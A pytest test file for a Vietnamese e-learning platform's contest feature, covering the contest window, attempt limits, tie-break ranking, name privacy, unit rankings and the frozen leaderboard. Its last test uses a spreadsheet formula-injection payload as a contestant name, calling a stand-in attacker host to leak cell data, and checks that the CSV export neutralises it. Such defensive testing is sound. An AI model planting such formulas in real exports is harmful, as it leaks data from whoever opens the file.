"""Contests: who defines them (province scoping), the window (nothing accepted outside it), eligibility and
attempt limits, the tie-break ranking, name privacy, units and figures, and the leaderboard frozen at the close."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from app.models.identity import Audience, Role
from app.models.units import OrgUnit, UnitKind, UnitOfficial
from app.services.contests import contests as contest_rules
from app.services.contests import leaderboards, taking
from app.services.units import headcounts
from tests.factories import auth, make_course, make_user, quiz, token_for

# A fixed window with a hand-moved clock; what is stamped with the real clock (none should be) shows under faketime.
pytestmark = pytest.mark.calendar
OPENS = datetime(2026, 12, 5, 1, 0, tzinfo=UTC)  # 08:00 in Hà Nội
CLOSES = OPENS + timedelta(days=7)
RIGHT = {"Hà Nội", "Đúng"}


@pytest.fixture
def clock(monkeypatch):
    """The contest's idea of now, moved by hand: before, during and after the window without waiting."""

    class Clock:
        now = OPENS - timedelta(hours=1)

        def at(self, moment: datetime) -> None:
            self.now = moment

    clock = Clock()
    for module in (contest_rules, taking, leaderboards, headcounts):  # uploads stamped on the same clock
        monkeypatch.setattr(module, "utcnow", lambda: clock.now)
    return clock


async def headers_for(session, keyring, settings, **kwargs) -> tuple[dict[str, str], object]:
    user = await make_user(session, **kwargs)
    return auth(token_for(keyring, settings, user)), user


async def define(client, session, keyring, settings, **overrides) -> tuple[dict, dict[str, str]]:
    rows = await make_course(session, lessons=[quiz("contest-quiz")])
    admin, _ = await headers_for(session, keyring, settings, role=Role.province_admin, province_code="19",
                                 audience=Audience.official, verified=True)
    body = {"title": "Cuộc thi tìm hiểu chuyển đổi số tỉnh Thái Nguyên",
            "quiz_id": str(rows.quizzes["contest-quiz"].id),
            "opens_at": OPENS.isoformat(), "closes_at": CLOSES.isoformat(), "max_attempts": 2, **overrides}
    r = await client.post("/api/v1/contests", json=body, headers=admin)
    assert r.status_code == 201, r.text
    return r.json(), admin


async def take(client, contest_id: str, headers, *, right: int, clock=None, minutes: float = 0) -> dict:
    """One attempt answering `right` questions correctly, submitted `minutes` after it starts."""
    started = await client.post(f"/api/v1/contests/{contest_id}/attempts", headers=headers)
    assert started.status_code == 201, started.text
    attempt = started.json()
    answers = []
    for n, question in enumerate(attempt["questions"]):
        wanted = [c for c in question["choices"] if (c["text"] in RIGHT) == (n < right)]
        answers.append({"question_id": question["id"], "choice_ids": [wanted[0]["id"]]})
    if clock is not None:
        clock.at(clock.now + timedelta(minutes=minutes))
    submitted = await client.post(f"/api/v1/contests/{contest_id}/attempts/{attempt['id']}/submit",
                                  json={"answers": answers}, headers=headers)
    return submitted


# --- who defines and reads results -------------------------------------------------------------------------------


async def test_province_admins_define_their_provinces_contests_only(client, session, keyring, settings, clock):
    contest, own = await define(client, session, keyring, settings)
    assert contest["province_code"] == "19" and contest["status"] == "upcoming"
    other, _ = await headers_for(session, keyring, settings, role=Role.province_admin, province_code="22",
                                 audience=Audience.official, verified=True)
    body = {"title": "Thi", "quiz_id": contest["quiz_id"], "opens_at": OPENS.isoformat(),
            "closes_at": CLOSES.isoformat()}
    assert (await client.post("/api/v1/contests", json={**body, "province_code": "19"}, headers=other)
            ).status_code == 403
    ministry, _ = await headers_for(session, keyring, settings, role=Role.ministry_admin, province_code=None)
    national = await client.post("/api/v1/contests", json=body, headers=ministry)
    assert national.status_code == 201 and national.json()["province_code"] is None
    learner, _ = await headers_for(session, keyring, settings)
    assert (await client.post("/api/v1/contests", json=body, headers=learner)).status_code == 403
    assert (await client.post("/api/v1/contests", json=body)).status_code == 401
    results = f"/api/v1/contests/{contest['id']}/results"
    assert (await client.get(results, headers=other)).status_code == 404  # another province's contest
    assert (await client.get(results, headers=own)).status_code == 200
    assert (await client.get(results, headers=ministry)).status_code == 200
    assert (await client.get(f"/api/v1/contests/{national.json()['id']}/results", headers=own)).status_code == 404
    bad = await client.post("/api/v1/contests", json={**body, "closes_at": OPENS.isoformat()}, headers=ministry)
    assert bad.status_code == 422 and "kết thúc phải sau" in bad.json()["errors"][0]["message"]


# --- the window --------------------------------------------------------------------------------------------------


async def test_nothing_is_accepted_before_the_opening_or_after_the_close(client, session, keyring, settings, clock):
    contest, _ = await define(client, session, keyring, settings, time_limit_s=3600)
    cid = contest["id"]
    learner, _ = await headers_for(session, keyring, settings, province_code="19")
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=learner)).status_code == 409
    clock.at(OPENS)
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=learner)).status_code == 200
    clock.at(CLOSES - timedelta(minutes=10))
    started = (await client.post(f"/api/v1/contests/{cid}/attempts", headers=learner)).json()
    assert started["deadline"] == CLOSES.isoformat().replace("+00:00", "Z")  # capped at the close, not an hour
    clock.at(CLOSES)
    late = await client.post(f"/api/v1/contests/{cid}/attempts/{started['id']}/submit", json={"answers": []},
                             headers=learner)
    assert late.status_code == 409 and late.headers["content-type"] == "application/problem+json"
    assert (await client.post(f"/api/v1/contests/{cid}/attempts", headers=learner)).status_code == 409
    latecomer, _ = await headers_for(session, keyring, settings, province_code="19")
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=latecomer)).status_code == 409
    board = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert board["figures"] == {"registered": 1, "finished": 0, "attempts": 0, "units": 0}


async def test_eligibility_entry_first_and_the_attempts_allowed(client, session, keyring, settings, clock):
    contest, _ = await define(client, session, keyring, settings, max_attempts=1, audience="official")
    cid = contest["id"]
    clock.at(OPENS + timedelta(hours=1))
    citizen, _ = await headers_for(session, keyring, settings, province_code="19")
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=citizen)).status_code == 403
    elsewhere, _ = await headers_for(session, keyring, settings, province_code="22", audience=Audience.official,
                                     verified=True)
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=elsewhere)).status_code == 403
    official, _ = await headers_for(session, keyring, settings, province_code="06", audience=Audience.official,
                                    verified=True)  # Bắc Kạn, now part of Thái Nguyên (19)
    assert (await client.post(f"/api/v1/contests/{cid}/attempts", headers=official)).status_code == 403
    assert (await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=official)).status_code == 200
    assert (await take(client, cid, official, right=2)).status_code == 200
    again = await client.post(f"/api/v1/contests/{cid}/attempts", headers=official)
    assert again.status_code == 409
    entry = (await client.get(f"/api/v1/contests/{cid}/entry", headers=official)).json()
    assert (entry["attempts_used"], entry["attempts_left"]) == (1, 0)


# --- ranking, privacy, units, freezing -------------------------------------------------------------------------


async def test_best_score_then_shortest_time_then_earliest_submission(client, session, keyring, settings, clock):
    contest, admin = await define(client, session, keyring, settings)
    cid = contest["id"]
    clock.at(OPENS)
    people = {}
    for name in ("Trần Văn An", "Lê Thị Bình", "Phạm Minh Châu", "Hoàng Đức Dũng"):
        headers, user = await headers_for(session, keyring, settings, province_code="19", full_name=name)
        await client.put(f"/api/v1/contests/{cid}/entry", json={"show_full_name": name == "Lê Thị Bình"},
                         headers=headers)
        people[name] = headers
    # An: full marks in 20 minutes (a first try of 1/2 counts for nothing more); Bình: full marks in 10;
    # Châu: full marks in 10 too, but submitted later; Dũng: half marks, fastest.
    await take(client, cid, people["Trần Văn An"], right=1, clock=clock, minutes=5)
    await take(client, cid, people["Trần Văn An"], right=2, clock=clock, minutes=20)
    await take(client, cid, people["Lê Thị Bình"], right=2, clock=clock, minutes=10)
    await take(client, cid, people["Phạm Minh Châu"], right=2, clock=clock, minutes=10)
    await take(client, cid, people["Hoàng Đức Dũng"], right=1, clock=clock, minutes=1)
    board = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert [(r["rank"], r["name"], r["score"], r["duration_ms"]) for r in board["people"]] == [
        (1, "Lê Thị Bình", 100.0, 600_000),  # opted in: full name
        (2, "Phạm M. C.", 100.0, 600_000),  # same score and time, submitted later
        (3, "Trần V. A.", 100.0, 1_200_000),
        (4, "Hoàng Đ. D.", 50.0, 60_000),
    ]
    assert "Trần Văn An" not in str(board) and "user_id" not in str(board)
    results = (await client.get(f"/api/v1/contests/{cid}/results", headers=admin)).json()
    assert [r["name"] for r in results["people"]] == ["Lê Thị Bình", "Phạm Minh Châu", "Trần Văn An",
                                                      "Hoàng Đức Dũng"]
    assert board["figures"] == {"registered": 4, "finished": 4, "attempts": 5, "units": 0}


async def test_the_frozen_leaderboard_is_what_it_was_at_the_close(client, session, keyring, settings, clock):
    contest, _ = await define(client, session, keyring, settings)
    cid = contest["id"]
    unit = OrgUnit(province_code="19", code="XBT", name="UBND xã Bằng Thành", name_key="ubnd xa bang thanh",
                   kind=UnitKind.commune)
    session.add(unit)
    await session.flush()
    clock.at(OPENS)
    runners = []
    for n in range(3):
        headers, user = await headers_for(session, keyring, settings, province_code="19",
                                          full_name=f"Vũ Thị Lan {n}", audience=Audience.official, verified=True)
        if n < 2:
            session.add(UnitOfficial(user_id=user.id, unit_id=unit.id))
            await session.flush()
        await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=headers)
        runners.append((headers, user))
    await take(client, cid, runners[0][0], right=2, clock=clock, minutes=3)
    await take(client, cid, runners[2][0], right=1, clock=clock, minutes=3)
    open_attempt = (await client.post(f"/api/v1/contests/{cid}/attempts", headers=runners[1][0])).json()
    clock.at(CLOSES - timedelta(seconds=1))
    before = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert before["frozen"] is False
    assert before["units"] == [{"rank": 1, "unit_id": str(unit.id), "name": "UBND xã Bằng Thành",
                                "province_code": "19", "headcount": None, "entrants": 2, "finishers": 1,
                                "finisher_percent": None}]
    assert before["figures"] == {"registered": 3, "finished": 2, "attempts": 2, "units": 1}

    clock.at(CLOSES + timedelta(seconds=1))
    late = await client.post(f"/api/v1/contests/{cid}/attempts/{open_attempt['id']}/submit",
                             json={"answers": []}, headers=runners[1][0])
    assert late.status_code == 409
    frozen = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert frozen["frozen"] is True and frozen["as_of"] == CLOSES.isoformat().replace("+00:00", "Z")
    keys = ("people", "units", "figures")
    assert {k: frozen[k] for k in keys} == {k: before[k] for k in keys}
    # Later changes (a name, a unit) leave the frozen board as it was at the close.
    runners[0][1].full_name = "Đỗ Thị Mai"
    await session.delete(unit)
    await session.flush()
    clock.at(CLOSES + timedelta(days=30))
    again = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert {k: again[k] for k in keys} == {k: before[k] for k in keys}
    csv_rows = (await client.get(f"/api/v1/contests/{cid}/leaderboard", params={"format": "csv"})
                ).content.decode("utf-8-sig").splitlines()
    assert csv_rows[0].startswith("rank,name") and csv_rows[1].startswith("1,Vũ T. L. 0.")


async def test_a_board_first_read_after_later_changes_is_still_the_board_at_the_close(
        client, session, keyring, settings, clock, monkeypatch):
    monkeypatch.setattr(headcounts, "utcnow", lambda: clock.now)
    contest, admin = await define(client, session, keyring, settings)
    cid = contest["id"]

    async def upload(officials: int) -> None:
        body = f"unit_code,unit_name,kind,officials\nSNV,Sở Nội vụ,agency,{officials}\n".encode()
        r = await client.post("/api/v1/units/headcounts", files={"file": ("h.csv", body, "text/csv")},
                              params={"year": 2026, "source": "QĐ 15", "source_date": "2026-01-15"}, headers=admin)
        assert r.status_code == 201, r.text

    clock.at(OPENS)
    await upload(4)
    units = {u["code"]: u["id"] for u in (await client.get("/api/v1/units", headers=admin)).json()}
    headers, user = await headers_for(session, keyring, settings, province_code="19", full_name="Vũ Thị Lan",
                                      audience=Audience.official, verified=True)
    await client.put(f"/api/v1/units/officials/{user.id}", json={"unit_id": units["SNV"]}, headers=admin)
    await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=headers)
    assert (await take(client, cid, headers, right=2)).status_code == 200
    clock.at(CLOSES - timedelta(seconds=1))
    at_close = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert at_close["people"][0]["name"] == "Vũ T. L." and at_close["units"][0]["headcount"] == 4

    # After the close and before anyone reads the board: a new name and a new headcount version.
    clock.at(CLOSES + timedelta(hours=1))
    user.full_name = "Đỗ Thị Mai"
    await session.flush()
    await upload(10)
    first = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert first["frozen"] is True
    assert {k: first[k] for k in ("people", "units", "figures")} == {
        k: at_close[k] for k in ("people", "units", "figures")}


async def test_an_attempt_past_its_time_limit_is_refused_and_counts_unscored(client, session, keyring, settings,
                                                                            clock):
    quiz_rows = await make_course(session, lessons=[quiz("pool", questions=[
        {"kind": "single", "prompt": f"Câu {n}?", "choices": [("Hà Nội", 100), ("Huế", 0)]} for n in range(5)])])
    contest, _ = await define(client, session, keyring, settings, quiz_id=str(quiz_rows.quizzes["pool"].id),
                              time_limit_s=600, questions=3, max_attempts=2)
    cid = contest["id"]
    clock.at(OPENS + timedelta(hours=2))
    learner, _ = await headers_for(session, keyring, settings, province_code="19")
    await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=learner)
    first = (await client.post(f"/api/v1/contests/{cid}/attempts", headers=learner)).json()
    assert len(first["questions"]) == 3  # drawn from the pool of five
    assert first["deadline"] == (clock.now + timedelta(minutes=10)).isoformat().replace("+00:00", "Z")
    clock.at(clock.now + timedelta(minutes=11))
    late = await client.post(f"/api/v1/contests/{cid}/attempts/{first['id']}/submit", json={"answers": []},
                             headers=learner)
    assert late.status_code == 409
    second = await take(client, cid, learner, right=3, clock=clock, minutes=4)
    assert second.status_code == 200 and second.json()["score"] == 100.0 and second.json()["number"] == 2
    entry = (await client.get(f"/api/v1/contests/{cid}/entry", headers=learner)).json()
    assert (entry["attempts_used"], entry["attempts_left"]) == (2, 0)
    board = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert board["figures"]["attempts"] == 1 and board["people"][0]["duration_ms"] == 240_000


async def test_units_are_ranked_by_finishers_against_their_headcount(client, session, keyring, settings, clock):
    contest, admin = await define(client, session, keyring, settings)
    cid = contest["id"]
    headcounts = "unit_code,unit_name,kind,officials\nSNV,Sở Nội vụ,agency,4\nXBT,UBND xã Bằng Thành,xã,20\n"
    upload = await client.post("/api/v1/units/headcounts", files={"file": ("h.csv", headcounts.encode(), "text/csv")},
                               params={"year": 2026, "source": "QĐ 15", "source_date": "2026-01-15"}, headers=admin)
    assert upload.status_code == 201
    units = {u["code"]: u["id"] for u in (await client.get("/api/v1/units", headers=admin)).json()}
    clock.at(OPENS)
    for code, entrants, finishers in (("SNV", 3, 2), ("XBT", 5, 2)):
        for n in range(entrants):
            headers, user = await headers_for(session, keyring, settings, province_code="19",
                                              audience=Audience.official, verified=True)
            await client.put(f"/api/v1/units/officials/{user.id}", json={"unit_id": units[code]}, headers=admin)
            await client.put(f"/api/v1/contests/{cid}/entry", json={}, headers=headers)
            if n < finishers:
                await take(client, cid, headers, right=2)
    board = (await client.get(f"/api/v1/contests/{cid}/leaderboard")).json()
    assert [(u["rank"], u["name"], u["entrants"], u["finishers"], u["headcount"], u["finisher_percent"])
            for u in board["units"]] == [(1, "Sở Nội vụ", 3, 2, 4, 50.0), (2, "UBND xã Bằng Thành", 5, 2, 20, 10.0)]
    assert board["figures"] == {"registered": 8, "finished": 4, "attempts": 4, "units": 2}
    rows = (await client.get(f"/api/v1/contests/{cid}/leaderboard", params={"format": "csv", "board": "units"})
            ).content.decode("utf-8-sig").splitlines()
    assert rows[0] == "rank,unit,province_code,headcount,entrants,finishers,finisher_percent"
    assert rows[1] == "1,Sở Nội vụ,19,4,3,2,50.0"


async def test_a_contest_on_an_imported_bank_shows_no_answers_and_leaves_essays_out_of_the_score(
        client, session, keyring, settings, clock):
    from app.models.quiz import Choice, Question
    from app.services.content.packages.gift import parse_gift
    from app.services.content.packages.versions import question_rows

    bank, errors = parse_gift("Năm sinh? {#1822:1}\n\nThủ đô? {=Hà Nội ~Huế}\n\nHãy trình bày. {}\n".encode(), "b")
    assert errors == []
    rows = await make_course(session, lessons=[quiz("bank", [])])
    written = question_rows(rows.quizzes["bank"].id, bank)
    for table in (Question, Choice):
        session.add_all([row for row in written if isinstance(row, table)])
        await session.flush()
    contest, _ = await define(client, session, keyring, settings, quiz_id=str(rows.quizzes["bank"].id))
    clock.at(OPENS + timedelta(hours=1))
    learner, _ = await headers_for(session, keyring, settings, province_code="19")
    await client.put(f"/api/v1/contests/{contest['id']}/entry", json={}, headers=learner)
    attempt = (await client.post(f"/api/v1/contests/{contest['id']}/attempts", headers=learner)).json()
    shown = {q["kind"]: q for q in attempt["questions"]}
    assert shown["numerical"]["choices"] == [] and shown["essay"]["choices"] == []  # "1822" never offered
    answers = [{"question_id": shown["numerical"]["id"], "text": "1822,5"},
               {"question_id": shown["single"]["id"],
                "choice_ids": [next(c["id"] for c in shown["single"]["choices"] if c["text"] == "Hà Nội")]},
               {"question_id": shown["essay"]["id"], "text": "Bài viết."}]
    r = await client.post(f"/api/v1/contests/{contest['id']}/attempts/{attempt['id']}/submit",
                          json={"answers": answers}, headers=learner)
    assert r.status_code == 200, r.text
    assert r.json()["score"] == 100.0


async def test_a_contestant_named_like_a_formula_is_text_in_the_results_csv(client, session, keyring, settings,
                                                                            clock):
    """Issue 18 item 1: the results CSV goes through the shared writer, so a typed name never runs in Excel."""
    contest, admin = await define(client, session, keyring, settings)
    cid = contest["id"]
    clock.at(OPENS)
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
    headers, _ = await headers_for(session, keyring, settings, province_code="19", full_name=attack)
    await client.put(f"/api/v1/contests/{cid}/entry", json={"show_full_name": True}, headers=headers)
    await take(client, cid, headers, right=2, clock=clock, minutes=3)
    r = await client.get(f"/api/v1/contests/{cid}/results", params={"format": "csv"}, headers=admin)
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["rank", "name"] and rows[1][:2] == ["1", "'" + attack]
